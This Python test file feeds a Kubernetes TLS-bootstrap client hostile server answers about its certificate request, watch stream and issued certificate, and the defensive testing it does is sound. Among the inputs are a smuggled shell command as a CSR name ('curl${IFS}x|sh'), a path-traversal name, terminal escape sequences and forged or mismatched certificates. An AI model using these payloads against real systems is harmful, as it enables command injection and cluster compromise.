"""The TLS bootstrap: odd answers to the request, to its list, to its watch, and what was issued."""
import base64
import datetime
import json
import time

import api
from api import CSRS, STREAM, chunk, condition, event, for_ever, http, listed, pki, refusal, reply, slowly
from row import ESC, Case
from cryptography import x509
from cryptography.hazmat.primitives import hashes

ONE = CSRS + "/.*"
REPEATED = 105  # a request of a join is sent again for 90 s


def post(make):
    return (("POST", CSRS, make),)


def first(count, make):
    """make() for the first calls, then what is right."""
    def answer(server, request):
        alike = [r for r in server.asked if (r.verb, r.path) == (request.verb, request.path)]
        return make(server, request) if len(alike) <= count else None
    return answer


def always(answer):
    return lambda server, request: answer


# --- the request -----------------------------------------------------------------------------------------


def created(change):
    """201 with the object that change(object) makes of the right one; the server itself keeps the right one."""
    def answer(server, request):
        made = change(server.new_csr(request))
        return reply(made, "201 Created") if made is not None else http(b"", "201 Created")
    return answer


def named(name):
    return created(lambda made: {**made, "metadata": {**made["metadata"], "name": name}})


def spec(**fields):
    return created(lambda made: {**made, "spec": {**made["spec"], **fields}})


SHELL = "csr-1;curl${IFS}x|sh"
POST_CASES = [
    Case("request: right", code=0, says=("approved \\(AutoApproved\\)",)),
    *(Case("request: %d" % code, post(always(refusal(code))), says=("POST .*: no \\(%d" % code,), asked=(("POST", CSRS, 1, 1),))
      for code in (400, 402, 404, 405, 406, 409, 410, 413, 415, 422)),
    *(Case("request: %d" % code, post(always(refusal(code, 'User "x" cannot create'))), says=("cannot create \\(%d" % code,),
           asked=(("POST", CSRS, 1, 1),)) for code in (401, 403)),
    *(Case("request: %d twice, then right" % code, post(first(2, always(refusal(code)))), code=0) for code in (429, 500, 502, 503, 504)),
    Case("request: 429 with Retry-After, then right", post(first(1, always(refusal(429, "slow", "Retry-After: 2")))), code=0, seconds=12),
    Case("request: 429 with odd Retry-After, then right", post(first(1, always(refusal(429, "slow", "Retry-After: soon")))), code=0),
    Case("request: 429 with negative Retry-After, then right", post(first(1, always(refusal(429, "slow", "Retry-After: -5")))), code=0),
    Case("request: 429 with a huge Retry-After", post(always(refusal(429, "slow", "Retry-After: 99999999999999999999"))),
         says=("429",), seconds=REPEATED, asked=(("POST", CSRS, 8, 40),)),
    Case("request: 429 with Retry-After of an hour", post(always(refusal(429, "slow", "Retry-After: 3600"))), says=("429",),
         asked=(("POST", CSRS, 1, 1),)),
    Case("request: 429 for ever", post(always(refusal(429, "slow", "Retry-After: 1"))), says=("slow \\(429",), seconds=REPEATED),
    Case("request: 503 for ever", post(always(refusal(503))), says=("503",), seconds=REPEATED, asked=(("POST", CSRS, 10, 80),)),
    Case("request: cut at once for ever", post(lambda s, r: iter(())), says=("POST",), seconds=REPEATED, asked=(("POST", CSRS, 10, 80),)),
    *(Case("request: redirect %d" % code, post(always(http(b"", "%d Elsewhere" % code, "Location: https://127.0.0.1:1/x"))),
           says=("%d" % code,), asked=(("POST", CSRS, 1, 1),)) for code in (301, 302, 303, 307, 308)),
    Case("request: 100 for ever", post(lambda s, r: for_ever(b"HTTP/1.1 100 Continue\r\n\r\n", b"HTTP/1.1 100 Continue\r\n\r\n")),
         says=("POST",), seconds=REPEATED),
    Case("request: 204", post(always(http(b"", "204 No Content"))), says=("POST",)),
    Case("request: 200 with nothing", post(created(lambda made: None)), says=("POST",)),
    Case("request: an HTML page", post(always(http(b"<html>login</html>", kind="text/html"))), says=("POST .*line 1",)),
    Case("request: HTML with 403", post(always(http(b"<html>\x1b[31mno\r\n</html>", "403 Forbidden", kind="text/html"))),
         says=("403.*<html>\\\\x1b\\[31mno",)),
    Case("request: a Status of success", post(always(reply({"kind": "Status", "apiVersion": "v1", "status": "Success"}))),
         says=("CertificateSigningRequest",)),
    Case("request: a Status of failure in 200", post(always(http(refusal(403, "not you").partition(b"\r\n\r\n")[2]))),
         says=("not you",)),
    *(Case("request: the answer is %s" % what, post(always(reply(body, "201 Created"))), says=("POST|decode Cert",))
      for what, body in (("null", None), ("a list", []), ("a text", "x"), ("a number", 5), ("empty", {}))),
    *(Case("request: the answer is a " + kind, post(created(lambda made, kind=kind: {**made, "kind": kind})),
           says=("unexpected object: " + kind,)) for kind in ("Pod", "CertificateSigningRequestList")),
    Case("request: the answer is of a kind of escapes", post(created(lambda made: {**made, "kind": ESC})), says=("unexpected object: \\\\x1b",)),
    Case("request: no kind", post(created(lambda made: {k: v for k, v in made.items() if k != "kind"})), code=0),
    Case("request: another group", post(created(lambda made: {**made, "apiVersion": "v1"})), says=("CertificateSigningRequest",)),
    *(Case("request: %s for a name" % what, post(named(name)), says=("CertificateSigningRequest.*name",))
      for what, name in (("nothing", ""), ("null", None), ("a number", 5), ("an object", {}), ("a newline", "csr-1\nx"),
                         ("escapes", ESC), ("a command", SHELL), ("dots", ".."), ("a slash", "../../nodes/x"), ("a blank", "a b"),
                         ("capitals", "CSR-1"), ("300 characters", "a" * 300), ("1 MB", "a" * 1000000),
                         ("a question", "a?x=y"))),
    Case("request: a NUL in its name", post(named("a\0b")), says=("POST .*u0000",)),
    Case("request: no metadata", post(created(lambda made: {k: v for k, v in made.items() if k != "metadata"})), says=("name",)),
    Case("request: no spec", post(created(lambda made: {k: v for k, v in made.items() if k != "spec"})), says=("spec",)),
    Case("request: no uid", post(created(lambda made: {**made, "metadata": {"name": made["metadata"]["name"]}})), code=0),
    *(Case("request: %s for a uid" % what, post(created(lambda made, uid=uid: {**made, "metadata": {**made["metadata"], "uid": uid}})),
           says=("uid|UID",)) for what, uid in (("another", "0"), ("a newline", "a\nb"), ("escapes", ESC), ("1 MB", "u" * 1000000))),
    Case("request: another signer", post(spec(signerName="kubernetes.io/kube-apiserver-client")), code=0),
    Case("request: a signer of escapes", post(spec(signerName=ESC)), code=0),
    Case("request: another request", post(spec(request=base64.b64encode(b"x").decode())), code=0),
    Case("request: the message has escapes", post(always(refusal(403, ESC))), says=("\\\\x1b\\[31mred",)),
    Case("request: the message has the token", post(always(refusal(403, "no %s for you" % api.TOKEN))), says=("abcdef",)),
    Case("request: the message has the authorization", post(lambda s, r: refusal(403, s.authorized[-1].decode())), says=("403",)),
    Case("request: a message of 5 MB", post(always(refusal(403, "m" * 5000000))), says=("mmm",)),
    Case("request: a reason of escapes", post(always(http(json.dumps({"kind": "Status", "message": "m", "reason": ESC}).encode(), "403 F"))),
         says=("403",)),
    Case("request: a message that is a list", post(always(http(b'{"kind":"Status","message":["a"],"reason":5}', "403 F"))), says=("403",)),
    Case("request: an answer of 64 MB", post(lambda s, r: slowly([b"HTTP/1.1 201 C\r\nContent-Length: 67108864\r\n\r\n", *[b"x" * 1048576] * 64], 0)),
         says=("longer than|too long|larger",)),
    Case("request: an endless answer", post(lambda s, r: for_ever(STREAM, chunk(b"x" * 65536))), says=("longer than|too long|larger",)),
    Case("request: endless heads", post(lambda s, r: for_ever(b"HTTP/1.1 201 C\r\n", b"X-A: %s\r\n" % (b"y" * 1000))), says=("POST",), seconds=REPEATED),
    Case("request: deep JSON", post(always(http(b"[" * 3000000))), says=("POST|depth|nest",)),
    Case("request: a million numbers", post(always(http(b'{"a":[' + b"0," * 3000000 + b"0]}"))), says=("name|decode|kind",)),
    Case("request: a key twice", post(always(http(b'{"kind":"CertificateSigningRequest","kind":"Pod"}'))), says=("line 1|duplicate",)),
    Case("request: a NUL in a key", post(always(http(b'{"a\\u0000b":1}'))), says=("NUL|line 1",)),
    Case("request: no UTF-8", post(always(http(b'{"kind":"\xff\xfe"}'))), says=("UTF-8|line 1",)),
    Case("request: cut in the middle, then right", post(first(1, lambda s, r: slowly([b"HTTP/1.1 201 C\r\nContent-Length: 500\r\n\r\n{"], 0))), code=0),
    Case("request: dripped", post(lambda s, r: for_ever(b"HTTP/1.1 201 C\r\nContent-Length: 500000\r\n\r\n", b" ", 0.3)), says=("POST",), seconds=REPEATED),
    Case("request: silence", post(lambda s, r: for_ever(b"", b"", 0.3)), says=("POST",), seconds=REPEATED),
]

# --- the list --------------------------------------------------------------------------------------------


def lists(make):
    """What is listed, which is asked where the request's version is not known."""
    return (("LIST", CSRS, make),
            *post(created(lambda made: {**made, "metadata": {
                key: value for key, value in made["metadata"].items() if key != "resourceVersion"}})))


def items(change, **meta):
    """A list of what change(server's request) makes."""
    return lists(lambda s, r: reply(listed(change(s.last_csr()), **meta)))


def issued_list(change):
    return items(lambda made: [change(made)])


PENDING = ("still pending|nobody has approved|in an unknown state (it could not be read)",)
LIST_CASES = [
    *(Case("list: %d" % code, lists(always(refusal(code))), says=("%d" % code,)) for code in (400, 404, 405, 422)),
    *(Case("list: %d twice, then right" % code, lists(first(2, always(refusal(code)))), code=0) for code in (429, 500, 503)),
    Case("list: 410 once, then right", lists(always(refusal(410))), says=("410",)),
    Case("list: 401 for ever", lists(always(refusal(401))), says=("401",), seconds=45),
    Case("list: 403 for ever", lists(always(refusal(403))), says=("403",), seconds=45),
    Case("list: 503 for ever", lists(always(refusal(503))), says=("503",), seconds=REPEATED),
    Case("list: a redirect", lists(always(http(b"", "302 Found", "Location: https://127.0.0.1:1/"))), says=("302",)),
    Case("list: an HTML page", lists(always(http(b"<html>", kind="text/html"))), says=("GET .*line 1",)),
    *(Case("list: the answer is %s" % what, lists(always(reply(body))), says=("list|answer|object",))
      for what, body in (("null", None), ("a list", []), ("empty", {}), ("a Status", {"kind": "Status", "status": "Success"}),
                         ("a Pod", {"kind": "Pod", "metadata": {"name": "x", "resourceVersion": "1"}}))),
    Case("list: another list", lists(always(reply(listed([], "NodeList")))), says=("was deleted",)),
    *(Case("list: items are %s" % what, lists(always(reply(listed(body)))), says=("decode list",))
      for what, body in (("a text", "x"), ("an object", {"a": 1}), ("a number", 5))),
    *(Case("list: items are %s" % what, lists(always(reply(listed(body)))), code=0)
      for what, body in (("texts", ["a"]), ("nulls", [None]), ("lists", [[]]))),
    Case("list: items null", lists(always(reply(listed(None)))), says=("was deleted",)),
    Case("list: empty", lists(always(reply(listed([])))), says=("was deleted",)),
    Case("list: only others", items(lambda made: [{**made, "metadata": {**made["metadata"], "name": "csr-other"}}]), code=0),
    Case("list: no resourceVersion", lists(lambda s, r: reply({**listed([s.last_csr()]), "metadata": {}})), says=("still pending",)),
    Case("list: a number for resourceVersion", lists(lambda s, r: reply(listed([s.last_csr()], version=5))), says=("still pending",)),
    Case("list: an odd resourceVersion", lists(lambda s, r: reply(listed([s.last_csr()], version="5&watch=false#\r\nX: y"))), code=0),
    Case("list: a resourceVersion of 1 MB", lists(lambda s, r: reply(listed([s.last_csr()], version="9" * 1000000))), says=PENDING),
    Case("list: continues for ever", items(lambda made: [made], **{"continue": "more"}), code=0, asked=(("LIST", CSRS, 1, 3),)),
    Case("list: 20000 others before ours", items(lambda made: [{"metadata": {"name": "c%d" % i}} for i in range(20000)] + [made]), code=0),
    Case("list: a million numbers", lists(always(http(b'{"kind":"CertificateSigningRequestList","items":[' + b"0," * 3000000 + b"0]}"))),
         says=("its values take more than 64 MiB",)),
    Case("list: endless", lists(lambda s, r: for_ever(STREAM, chunk(b" " * 65536))), says=("longer than|too long|larger",)),
    Case("list: another uid", issued_list(lambda made: {**made, "metadata": {**made["metadata"], "uid": "other"}}), says=("changed UIDs",)),
    Case("list: no watch, issued on the third look", (*lists(lambda s, r: reply(listed(
        [s.issued(s.last_csr()) if sum(a.verb == "LIST" for a in s.asked) > 2 else s.last_csr()]))), ("WATCH", CSRS, always(refusal(403)))),
         code=0, timeout="20s", seconds=20),
]

# --- the watch -------------------------------------------------------------------------------------------


def watch(make):
    return (("WATCH", CSRS, make),)


def stream(*pieces):
    """One answer of these pieces, the connection goes on."""
    return watch(lambda s, r: STREAM + b"".join(p(s) if callable(p) else chunk(p) for p in pieces) + chunk(b""))


def good(server):
    return event("MODIFIED", server.issued(server.last_csr()))


def raw(make):
    """An event whose bytes make(object) gives."""
    return lambda s: chunk(make(s.last_csr()))


def of(kind, change=lambda made: made):
    return lambda s: event(kind, change(s.last_csr()))


def long_line(s):
    made = {**s.last_csr(), "pad": "x" * 20971520}
    return chunk(json.dumps({"type": "MODIFIED", "object": made}).encode() + b"\n")


def halves(server, request):
    line = json.dumps({"type": "MODIFIED", "object": server.issued(server.last_csr())}).encode() + b"\n"
    return slowly([STREAM, *(chunk(line[i:i + 40]) for i in range(0, len(line), 40)), chunk(b"")], 0.005)


def expired(code=410):
    status = json.loads(refusal(code, "too old").partition(b"\r\n\r\n")[2])
    return lambda s: event("ERROR", status)


WATCH_CASES = [
    *(Case("watch: %s before the event" % what, stream(line, good), code=0) for what, line in (
        ("an empty line", b"\n"), ("ten thousand empty lines", b"\n" * 10000), ("a bookmark", lambda s: event("BOOKMARK", {
            "kind": "CertificateSigningRequest", "metadata": {"resourceVersion": "12"}})),
        ("an unknown type", of("RENAMED")), ("an event of another", lambda s: event("MODIFIED", {"metadata": {"name": "x"}})),
        ("an event of null", lambda s: event("MODIFIED", None)), ("an event of a text", lambda s: event("MODIFIED", "x")),
        ("an event of a list", lambda s: event("MODIFIED", [])), ("DELETED of another", lambda s: event("DELETED", {"metadata": {"name": "x"}})),
        ("a bookmark without version", lambda s: event("BOOKMARK", {})), ("a thousand bookmarks", lambda s: event("BOOKMARK", {
            "metadata": {"resourceVersion": "12"}}) * 1000))),
    *(Case("watch: %s" % what, stream(line), says=("watch",) + says) for what, line, says in (
        ("garbage", b"garbage\n", ()), ("HTML", b"<html>\n<body>login</body>\n", ()), ("a number", b"5\n", ()), ("null", b"null\n", ()),
        ("a list", b"[]\n", ()), ("no type", b'{"object":{}}\n', ()), ("a type that is a number", b'{"type":5,"object":{}}\n', ()),
        ("no UTF-8", b'{"type":"\xff"}\n', ()), ("escapes", ESC.encode() + b"\n", ()), ("half an event", b'{"type":"MODIFIED","obj\n', ()),
        ("deep JSON", b"[" * 1000000 + b"\n", ()), ("a key twice", b'{"type":"ADDED","type":"ADDED"}\n', ()))),
    Case("watch: nothing, ended at once", stream(), says=("the stream ended immediately",)),
    Case("watch: no chunks", watch(lambda s, r: http(good(s).partition(b"\r\n")[2].strip() + b"\n")), code=0),
    Case("watch: in pieces of 40 bytes", watch(halves), code=0),
    Case("watch: one byte a chunk", watch(lambda s, r: STREAM + b"".join(chunk(bytes([b])) for b in json.dumps(
        {"type": "MODIFIED", "object": s.issued(s.last_csr())}).encode() + b"\n") + chunk(b"")), code=0),
    Case("watch: the last line has no end", stream(lambda s: chunk(json.dumps({"type": "MODIFIED", "object": s.issued(s.last_csr())}).encode())),
         says=PENDING),
    Case("watch: a line of 20 MiB", stream(long_line), says=("longer than",)),
    Case("watch: a line of 20 MiB of nothing", watch(lambda s, r: for_ever(STREAM, chunk(b" " * 65536))), says=("longer than",)),
    Case("watch: a line of a million numbers", stream(b'{"type":"MODIFIED","object":[' + b"0," * 3000000 + b"0]}\n", good),
         says=("its values take more than 64 MiB",)),
    Case("watch: garbage for ever", watch(lambda s, r: for_ever(STREAM, chunk(b"garbage\n" * 1000))), says=("watch",)),
    Case("watch: bookmarks for ever", watch(lambda s, r: for_ever(STREAM, event("BOOKMARK", {"metadata": {"resourceVersion": "12"}}) * 100)),
         says=PENDING),
    Case("watch: dripped garbage", watch(lambda s, r: for_ever(STREAM, chunk(b"g"), 0.1)), says=PENDING),
    Case("watch: never anything", watch(lambda s, r: for_ever(STREAM, b"", 0.2)), says=PENDING + ("hint: kubectl certificate approve csr-",)),
    Case("watch: not even a head", watch(lambda s, r: for_ever(b"", b"", 0.2)), says=PENDING),
    Case("watch: cut at once for ever", watch(lambda s, r: iter(())), says=PENDING, asked=(("WATCH", CSRS, 2, 12),)),
    Case("watch: cut after the head for ever", watch(lambda s, r: iter((STREAM,))), says=PENDING, asked=(("WATCH", CSRS, 2, 12),)),
    Case("watch: cut after an event for ever", watch(lambda s, r: iter((STREAM, event("MODIFIED", s.last_csr())))), says=PENDING,
         asked=(("WATCH", CSRS, 2, 12),)),
    Case("watch: ended after an event for ever", stream(of("MODIFIED")), says=PENDING, asked=(("WATCH", CSRS, 2, 12),)),
    Case("watch: cut in the event, then right", watch(first(1, lambda s, r: iter((STREAM, event("MODIFIED", s.last_csr())[:90])))), code=0),
    Case("watch: an odd chunk", watch(lambda s, r: iter((STREAM, b"zz\r\ngarbage\r\n"))), says=("watch|chunk|pending",)),
    Case("watch: a chunk of 2^63", watch(lambda s, r: iter((STREAM, b"7fffffffffffffff\r\n" + b"x" * 100))), says=("watch|chunk|pending",)),
    Case("watch: a chunk longer than said", watch(lambda s, r: iter((STREAM, b"3\r\ngarbage\r\n"))), says=("watch|chunk|pending",)),
    Case("watch: gone once (410)", watch(first(1, always(refusal(410)))), code=0, asked=(("LIST", CSRS, 2, 3),)),
    Case("watch: gone for ever (410)", watch(always(refusal(410))), says=PENDING, asked=(("LIST", CSRS, 2, 8),)),
    Case("watch: ERROR 410 once", watch(first(1, lambda s, r: STREAM + expired()(s) + chunk(b""))), code=0),
    Case("watch: ERROR 410 for ever", stream(expired()), says=PENDING, asked=(("LIST", CSRS, 2, 8),)),
    Case("watch: ERROR 500 for ever", stream(expired(500)), says=PENDING, asked=(("LIST", CSRS, 2, 8),)),
    Case("watch: ERROR of null", stream(lambda s: event("ERROR", None)), says=PENDING),
    Case("watch: ERROR with escapes", stream(lambda s: event("ERROR", {"message": ESC})), says=PENDING),
    *(Case("watch: %d once, then right" % code, watch(first(1, always(refusal(code)))), code=0) for code in (401, 429, 500, 503)),
    *(Case("watch: %d for ever" % code, watch(always(refusal(code))), says=PENDING) for code in (400, 403, 405, 422, 429, 500, 503)),
    Case("watch: 404 for ever", watch(always(refusal(404))), says=("404",)),
    Case("watch: a redirect", watch(always(http(b"", "302 Found", "Location: https://127.0.0.1:1/"))), says=("302",)),
    Case("watch: DELETED of ours", stream(of("DELETED")), says=("was deleted",)),
    Case("watch: another uid", stream(of("MODIFIED", lambda made: {**made, "metadata": {**made["metadata"], "uid": "x"}})), says=("changed UIDs",)),
    Case("watch: no spec", stream(of("MODIFIED", lambda made: {"metadata": made["metadata"]})), says=("no name or spec",)),
    Case("watch: another kind", stream(of("MODIFIED", lambda made: {**made, "kind": "Pod"})), says=("Pod",)),
    Case("watch: a version of 1 MB", stream(lambda s: event("BOOKMARK", {"metadata": {"resourceVersion": "9" * 1000000}}), good), code=0),
]

# --- conditions ------------------------------------------------------------------------------------------


def status(**fields):
    return stream(of("MODIFIED", lambda made: {**made, "status": fields}))


def conditions(*rows):
    return status(conditions=list(rows))


def approved_by(**changed):
    """Issued as it should be, the condition changed."""
    return stream(lambda s: event("MODIFIED", s.issued(s.last_csr(), conditions=[{**condition("Approved"), **changed}])))


CONDITION_CASES = [
    Case("condition: denied", conditions(condition("Denied", "NoWay", "ask me")), says=("is denied, reason: NoWay, message: ask me",)),
    Case("condition: failed", conditions(condition("Approved"), condition("Failed", "SignerValidationFailure", "bad")), says=("failed, reason: SignerV",)),
    Case("condition: denied with escapes", conditions(condition("Denied", ESC, ESC)), says=("is denied, reason: \\\\x1b\\[31mred",)),
    Case("condition: denied with the token", conditions(condition("Denied", "R", "token " + api.TOKEN)), says=("is denied",)),
    Case("condition: denied in 1 MB", conditions(condition("Denied", "r" * 500000, "m" * 500000)), says=("is denied",)),
    Case("condition: denied without words", conditions({"type": "Denied", "status": "True"}), says=("is denied",)),
    Case("condition: denied with odd words", conditions({"type": "Denied", "status": "True", "reason": 5, "message": []}), says=("is denied",)),
    Case("condition: approved with escapes", approved_by(reason=ESC, message=ESC), code=0, says=("approved \\(\\\\x1b",)),
    Case("condition: approved with the token", approved_by(reason=api.TOKEN), code=0),
    Case("condition: approved with an odd reason", approved_by(reason=5, message=None), code=0, says=("approved \\(manually\\)",)),
    Case("condition: approved in 1 MB", approved_by(reason="r" * 500000), code=0),
    Case("condition: approved, never signed", conditions(condition("Approved")), says=("approved but not signed", "hint: kube-controller-manager")),
    *(Case("condition: conditions are %s" % what, status(conditions=value), says=PENDING)
      for what, value in (("null", None), ("a text", "x"), ("a number", 5), ("an object", {"type": "Approved"}), ("texts", ["Approved"]),
                          ("nulls", [None]), ("of an unknown type", [condition("Odd")]), ("of a type that is a number", [{"type": 5}]))),
    *(Case("condition: the status is %s" % what, stream(of("MODIFIED", lambda made, value=value: {**made, "status": value})), says=PENDING)
      for what, value in (("null", None), ("a text", "x"), ("a list", []))),
    Case("condition: a hundred thousand", status(conditions=[condition("Odd%d" % i, "r", "m") for i in range(20000)]), says=PENDING),
]

# --- what was issued -------------------------------------------------------------------------------------


def signed(server, public=None, node=api.NODE, organizations=("system:nodes",), days=(-1, 9), usages=("client auth",), authority=None, ca=False,
           more=()):
    """A certificate for the key of the request that was sent."""
    made = server.last_csr()
    public = public or x509.load_pem_x509_csr(base64.b64decode(made["spec"]["request"])).public_key()
    by = authority or server.authority_of_nodes
    builder = (x509.CertificateBuilder().subject_name(pki.name_of("system:node:" + node, organizations)).issuer_name(by.cert.subject)
               .public_key(public).serial_number(5).not_valid_before(pki.now() + datetime.timedelta(days=days[0]))
               .not_valid_after(pki.now() + datetime.timedelta(days=days[1])))
    if usages:
        builder = builder.add_extension(x509.ExtendedKeyUsage([pki.EXTENDED_USAGES[u] for u in usages]), False)
    if ca:
        builder = builder.add_extension(x509.BasicConstraints(True, None), True)
    for extension, critical in more:
        builder = builder.add_extension(extension, critical)
    return pki.cert_pem(builder.sign(by.key, hashes.SHA256()))


def issued(make):
    """The certificate that make(server) gives, as bytes; or the text in the field itself."""
    def answer(server):
        made = make(server)
        done = server.issued(server.last_csr(), b"x")
        done["status"]["certificate"] = base64.b64encode(made).decode() if isinstance(made, bytes) else made
        return event("MODIFIED", done)
    return stream(answer)


def another():
    return pki.Authority.create("somebody", pki.new_ec_key())


JUNK = b"-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(b"\x30\x82\xff\xff junk" * 20) + b"-----END CERTIFICATE-----\n"
NEXT = "hint: .*the next join sends a new request"
ISSUED_CASES = [
    *(Case("issued: " + what, issued(make), code=code, says=says) for what, code, says, make in (
        ("for another node", 4, ("system:node:other",), lambda s: signed(s, node="other")),
        ("for a node with escapes", 4, ("not for",), lambda s: signed(s, node="a\x1b[31m")),
        ("without the group", 4, ("not for",), lambda s: signed(s, organizations=())),
        ("with masters beside the group", 0, (), lambda s: signed(s, organizations=("system:nodes", "system:masters"))),
        ("of another authority", 4, ("cannot trust|issuer",), lambda s: signed(s, authority=another())),
        ("of an authority of the same name", 4, ("cannot trust|signature|issuer",), lambda s: signed(s, authority=pki.Authority.create())),
        ("for another key", 4, ("does not match this node's key",), lambda s: signed(s, public=pki.new_ec_key().public_key())),
        ("expired", 4, ("is after", NEXT), lambda s: signed(s, days=(-9, -1))),
        ("for tomorrow", 4, ("is before", NEXT), lambda s: signed(s, days=(1, 9))),
        ("for ever", 0, (), lambda s: signed(s, days=(-1, 365 * 7000))),
        ("for a server", 4, ("purpose",), lambda s: signed(s, usages=("server auth",))),
        ("for both", 0, (), lambda s: signed(s, usages=("server auth", "client auth"))),
        ("for anything", 0, (), lambda s: signed(s, usages=())),
        ("as an authority", 0, (), lambda s: signed(s, ca=True)),
        ("an unknown critical extension", 4, ("critical",), lambda s: signed(s, more=((x509.UnrecognizedExtension(
            x509.ObjectIdentifier("1.2.3.4"), b"\x05\x00"), True),))),
        ("the authority itself", 4, ("not for",), lambda s: s.ca.pem),
        ("the authority after it", 0, (), lambda s: signed(s) + s.ca.pem),
        ("the authority before it", 4, ("not for",), lambda s: s.ca.pem + signed(s)),
        ("twice", 0, (), lambda s: signed(s) * 2),
        ("another's after it", 0, (), lambda s: signed(s) + signed(s, node="other")),
        ("text around it", 0, (), lambda s: b"Subject: x\n" + signed(s) + b"\nthe end\n"),
        ("escapes around it", 0, (), lambda s: b"\x1b[31m\n" + signed(s) + b"\x1b]0;x\x07\n"),
        ("a key behind it", 0, (), lambda s: signed(s) + pki.key_pem(pki.new_ec_key())),
        ("CRLF", 0, (), lambda s: signed(s).replace(b"\n", b"\r\n")),
        ("no line end", 0, (), lambda s: signed(s).strip()),
        ("junk behind it", 1, ("certificate",), lambda s: signed(s) + JUNK),
        ("junk alone", 1, ("certificate",), lambda s: JUNK),
        ("garbage", 1, ("certificate",), lambda s: b"garbage"),
        ("a request", 1, ("certificate",), lambda s: base64.b64decode(s.last_csr()["spec"]["request"])),
        ("a key", 1, ("certificate",), lambda s: pki.key_pem(pki.new_ec_key())),
        ("half of it", 1, ("certificate",), lambda s: signed(s)[:300]),
        ("DER", 1, ("certificate",), lambda s: x509.load_pem_x509_certificate(signed(s)).public_bytes(api.pki.serialization.Encoding.DER)),
        ("a NUL in it", 1, ("not base64 text",), lambda s: signed(s) + b"\0"),
        ("no base64", 1, ("not base64 text",), lambda s: "!!!"),
        ("base64 with a wrong end", 1, ("not base64 text",), lambda s: base64.b64encode(signed(s)).decode() + "="),
        ("5 MiB of text before it", 1, ("longer than|too long|more than|larger",), lambda s: b"x" * 72 * 65536 + signed(s)),
        ("3000 of them", 1, ("longer than|too long|more than|larger",), lambda s: signed(s) * 3000),
    )),
    Case("issued: empty for ever", issued(lambda s: ""), says=("approved but not signed",)),
    *(Case("issued: %s for a certificate" % what, issued(lambda s, value=value: value), says=("certificate|signed",))
      for what, value in (("a number", 5), ("null", None), ("a list", []))),
    Case("issued: without approval", stream(lambda s: event("MODIFIED", s.issued(s.last_csr(), conditions=[]))), says=PENDING),
    Case("issued: approved and denied", stream(lambda s: event("MODIFIED", s.issued(s.last_csr(), conditions=[
        condition("Approved"), condition("Denied", "Later")]))), says=("is denied, reason: Later",)),
]

CASES = [*POST_CASES, *LIST_CASES, *WATCH_CASES, *CONDITION_CASES, *ISSUED_CASES]
